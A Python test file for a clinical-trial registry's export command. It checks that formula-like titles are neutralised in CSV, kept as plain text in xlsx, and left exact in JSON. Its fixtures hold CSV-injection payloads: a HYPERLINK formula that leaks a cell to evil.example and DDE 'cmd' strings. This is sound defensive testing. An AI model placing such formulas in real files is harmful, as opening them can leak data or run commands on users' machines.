"""Registry text that starts like a formula never becomes one in an export.

A title starting with `=` used to become a live formula in `.xlsx`
(`=HYPERLINK("http://evil.example/?leak="&A1,…)`, `=cmd|' /C calc'!A0`), and CSV kept a leading
`= + - @ \\t \\r` as is. CSV cells are neutralised as OWASP describes (a leading `'`); Excel cells
hold the exact text as text, never as a formula; JSON stays exact.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import study
from tests.faults.harness import CITED, Clinic, run_cli

PAYLOADS = {
    "briefTitle": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the protocol")',
    "officialTitle": "=cmd|' /C calc'!A0",
    "acronym": "@SUM(A1:A9)",
}
WHY_STOPPED = "+1+cmd|' /C calc'!A0"
PLAIN_NUMBER = "-1.5"  # a number is not a formula: kept as registered


def _hostile_record() -> dict:
    """SYNTHETIC: the real record of the first cited study with formula-like text."""
    record = study(CITED[0])
    record["protocolSection"]["identificationModule"].update(PAYLOADS)
    status = record["protocolSection"]["statusModule"]
    status["whyStopped"] = WHY_STOPPED
    status["lastUpdatePostDateStruct"] = {"date": "2026-11-20", "type": "ACTUAL"}
    record["protocolSection"]["conditionsModule"]["conditions"] = ["\t=1+1", PLAIN_NUMBER]
    return record


@pytest.fixture
def hostile(clinic: Clinic) -> Clinic:
    clinic.put(_hostile_record())
    assert clinic.refresh().exit_code == 0
    return clinic


def _export(clinic: Clinic, name: str) -> Path:
    out = clinic.config_path.parent / name
    result = run_cli("--config", str(clinic.config_path), "export", "--what", "studies", "-o",
                     str(out))  # fmt: skip
    assert result.exit_code == 0, result.stderr
    return out


def test_csv_cells_that_start_like_a_formula_get_a_leading_quote(hostile: Clinic):
    path = _export(hostile, "studies.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        row = next(r for r in csv.DictReader(handle) if r["NCT ID"] == CITED[0])
    assert row["Brief title"] == "'" + PAYLOADS["briefTitle"]
    assert row["Official title"] == "'" + PAYLOADS["officialTitle"]
    assert row["Acronym"] == "'" + PAYLOADS["acronym"]
    assert row["Why stopped"] == "'" + WHY_STOPPED
    assert row["Conditions"] == "'\t=1+1; -1.5"
    with path.open(newline="", encoding="utf-8") as handle:
        for cells in csv.reader(handle):
            assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), cells


def test_xlsx_cells_hold_the_exact_text_and_no_formula(hostile: Clinic):
    path = _export(hostile, "studies.xlsx")
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert {*PAYLOADS.values(), WHY_STOPPED} <= values  # exact, as registered


def test_json_keeps_the_text_exact(hostile: Clinic):
    path = _export(hostile, "studies.json")
    row = next(r for r in json.loads(path.read_text()) if r["NCT ID"] == CITED[0])
    assert row["Brief title"] == PAYLOADS["briefTitle"]
    assert row["Why stopped"] == WHY_STOPPED
    assert row["Conditions"] == f"\t=1+1; {PLAIN_NUMBER}"
